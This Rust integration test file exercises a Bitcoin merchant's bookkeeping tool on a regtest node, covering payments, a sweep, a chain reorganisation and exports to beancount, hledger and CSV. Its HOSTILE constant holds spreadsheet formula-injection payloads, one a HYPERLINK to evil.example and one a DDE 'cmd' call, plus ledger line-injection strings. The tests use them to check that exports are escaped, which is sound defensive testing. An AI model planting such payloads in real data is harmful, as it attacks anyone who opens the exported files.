//! The books beside the coins, on a real node, and read by the programs that people keep books with.
use crate::merchant;
use crate::patience::until;
use crate::program::{Launch, Program};
use crate::shop::{Bill, Shop};
use chain::regtest::Regtest;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fs;
use std::process::{Command, Output};
use store::Scratch;

/// What a hostile shop names its orders.
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "x\n2026-01-01 open Assets:Evil BTC\n\"quoted\\\" ; y, z:1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{2028}account assets:evil\r\n    assets:evil  1 BTC",
];

struct Bench {
    node: Regtest,
    server: Program,
    shop: Shop,
    database: Option<Scratch>,
}

impl Bench {
    fn on(database: Option<Scratch>) -> Self {
        let node = Regtest::start();
        let wallet = merchant::open(&node);
        let mut launch = Launch::on(node.url());
        if let Some(database) = &database {
            launch = launch.with(&["--database", database.url()]);
        }
        let server = Program::start(launch);
        let shop = Shop::open(&server, &wallet);
        server.synchronized();
        Self { node, server, shop, database }
    }

    fn order(&self, number: usize, amount: &str, currency: &str) -> Bill {
        let id = HOSTILE[number % HOSTILE.len()];
        self.shop.order(&json!({ "amount": amount, "currency": currency, "metadata": { "orderId": id } }))
    }

    fn almoner(&self, words: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_almoner"));
        command.args(words).args(["--network", "regtest", "--data-dir"]).arg(self.server.data());
        if let Some(database) = &self.database {
            command.args(["--database", database.url()]);
        }
        command.output().unwrap()
    }

    fn ledger(&self, words: &[&str]) -> String {
        let output = self.almoner(&[&["ledger"], words].concat());
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{words:?}: {said}");
        String::from_utf8(output.stdout).unwrap()
    }

    /// By account, in satoshis.
    fn balances(&self) -> BTreeMap<String, i64> {
        let read = |line: &str| {
            let row: Value = serde_json::from_str(line).unwrap();
            let sats = row["balance_btc"].as_str().unwrap().replace('.', "").parse().unwrap();
            (row["account"].as_str().unwrap().to_owned(), sats)
        };
        self.ledger(&["balances", "--format", "jsonl"]).lines().map(read).collect()
    }

    /// Waits until the books have in the wallet what the wallet itself says.
    fn agrees(&self, when: &str) {
        let held = i64::try_from(merchant::balance(&self.node)).unwrap();
        let booked = || self.balances().get("assets:wallet:1").copied().unwrap_or_default();
        until(30, &format!("{when}, the books have {held} in the wallet"), || booked() == held);
        assert_eq!(self.balances().values().sum::<i64>(), 0);
    }

    /// Paid in full, too much, in parts, as a gift of whatever, then swept; and two blocks with the sweep leave.
    fn live(&mut self) {
        let bills = [
            self.order(0, "25.00", "USD"),
            self.order(1, "0.0005", "BTC"),
            self.order(2, "12.50", "USD"),
            self.order(3, "1.00", "USD"),
        ];
        let script = |bill: &Bill| bill.script(&self.node);
        let scripts = bills.each_ref().map(script);
        let sats = [50_000, 61_000, 20_000, 2_000];
        let pays: Vec<(&[u8], u64)> = scripts.iter().map(Vec::as_slice).zip(sats).collect();
        self.node.pay(&pays);
        self.node.mine(1);
        for (bill, status) in bills.iter().zip(["Settled", "Settled/PaidOver", "New/PaidPartial", "Settled"])
        {
            self.shop.becomes(bill, status);
        }
        self.agrees("paid");
        let before = self.balances();
        assert_eq!(before["income:overpaid"], -11_000);
        let journal = self.ledger(&["journal"]);
        merchant::spend_all(&self.node);
        self.node.mine(1);
        self.agrees("swept");
        assert_eq!(self.balances()["equity:moved-out"], 133_000);
        self.node.disconnect(1);
        self.node.mine_only(&[]);
        self.node.mine_only(&[]);
        let undone = || {
            let mut now = self.balances();
            now.remove("equity:moved-out") == Some(0) && now == before
        };
        until(30, "the sweep is undone", undone);
        assert!(self.ledger(&["journal"]).starts_with(&journal), "nothing that was booked is changed");
        self.node.mine(1);
        self.agrees("swept again");
    }

    fn is_read_by_others(&self) {
        let file = |name: &str, text: &str| {
            let path = self.server.data().join(name);
            fs::write(&path, text).unwrap();
            path
        };
        let program =
            |name| std::env::var(name).unwrap_or_else(|_| panic!("{name} is not set: cargo xtask test"));
        let beancount = file("books.beancount", &self.ledger(&["journal", "--format", "beancount"]));
        let checked = Command::new(program("BEAN_CHECK")).arg(&beancount).output().unwrap();
        let said =
            String::from_utf8_lossy(&checked.stderr).into_owned() + &String::from_utf8_lossy(&checked.stdout);
        assert!(checked.status.success() && said.is_empty(), "{said}");
        let hledger = file("books.journal", &self.ledger(&["journal", "--format", "hledger"]));
        let run = |words: &[&str]| {
            let output =
                Command::new(program("HLEDGER")).arg("-f").arg(&hledger).args(words).output().unwrap();
            assert!(output.status.success(), "{words:?}: {}", String::from_utf8_lossy(&output.stderr));
            String::from_utf8(output.stdout).unwrap()
        };
        run(&["check", "--strict"]);
        let theirs = run(&["balance", "--flat", "--empty", "--no-total", "--output-format", "csv"]);
        let read = |line: &str| {
            let (account, amount) = line.trim_matches('"').split_once("\",\"").unwrap();
            let amount = amount.trim_end_matches(" BTC").replace('.', "").parse().unwrap();
            (account.to_owned(), amount)
        };
        let theirs: BTreeMap<String, i64> = theirs.lines().skip(1).map(read).collect();
        assert_eq!(theirs, self.balances(), "hledger comes to the same");
    }

    /// No cell is a formula, and every line has as many as the first.
    fn is_safe_in_a_spreadsheet(&self) {
        let journal = self.ledger(&["journal"]);
        assert!(!journal.contains(",=") && !journal.contains(",@") && !journal.contains(",\"="));
        assert!(journal.contains("\"'=HYPERLINK(\"\"http"), "{journal}");
        let sales: Vec<Value> = self
            .ledger(&["journal", "--format", "jsonl"])
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        let orders = sales.iter().filter(|row| row["order"].as_str().is_some_and(|id| HOSTILE.contains(&id)));
        assert_eq!(orders.count(), sales.len(), "programs get what the shop wrote");
        let of = |amount: &str| sales.iter().find(|row| row["amountBtc"] == amount).unwrap();
        assert_eq!(of("0.00050000")["worth"], json!({ "amount": "25.00", "currency": "USD" }));
        let in_bitcoin = of("0.00061000");
        assert_eq!(in_bitcoin["worth"]["amount"], "30.50", "at the market's rate, in the store's currency");
        assert!(in_bitcoin["rate"]["time"].is_string());
    }
}

#[test]
fn the_books_follow_the_coins_through_a_sweep_and_a_reorganisation() {
    let mut bench = Bench::on(None);
    bench.live();
    bench.is_read_by_others();
    bench.is_safe_in_a_spreadsheet();
    let today = bench.ledger(&["statement", "--format", "csv"]);
    assert!(today.contains("\"assets:wallet:1\",0.00000000,"), "{today}");
    let nothing = bench.almoner(&["ledger", "balances", "--from", "2026-02-02", "--to", "2026-02-01"]);
    assert_eq!(nothing.status.code(), Some(2));
    Shop::another(&bench.shop.api, crate::shop::WATCHED);
    let several = bench.almoner(&["ledger", "balances"]);
    let said = String::from_utf8_lossy(&several.stderr).into_owned();
    assert!(several.status.code() == Some(2) && said.contains("--store"), "{said}");
    assert!(said.contains(&bench.shop.store), "{said}");
}

#[test]
fn on_postgresql_they_do_the_same() {
    let mut bench = Bench::on(Some(Scratch::create()));
    bench.live();
    bench.is_read_by_others();
    bench.is_safe_in_a_spreadsheet();
}
